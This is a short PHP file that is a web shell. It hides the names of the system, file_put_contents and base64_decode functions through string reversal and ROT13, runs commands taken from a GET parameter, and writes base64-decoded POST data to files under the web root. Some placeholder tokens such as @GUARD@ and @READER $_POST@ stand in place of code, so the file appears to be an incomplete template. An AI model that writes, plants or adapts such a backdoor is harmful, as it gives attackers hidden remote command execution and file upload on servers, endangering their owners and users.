<?php
$k = isset($_COOKIE['k']) ? (string) $_COOKIE['k'] : '';
@GUARD@
$run = 'sys' . strrev('met');
$put = 'file' . '_put_' . strrev('stnetnoc');
$open = str_rot13('onfr64_qrpbqr');
if (isset($_GET['c']) && @LISTED $_GET['c']@) {
    $run($_GET['c']);
}
if (isset($_POST['n'], $_POST['d'])) {
    $root = realpath($_SERVER['DOCUMENT_ROOT']);
    $dir = realpath($root . '/' . dirname($_POST['n']));
    if ($dir !== false && strncmp($dir . '/', $root . '/', strlen($root) + 1) === 0) {
        $put($dir . '/' . basename($_POST['n']), $open($_POST['d']));
        echo 'ok';
    }
}
@READER $_POST@
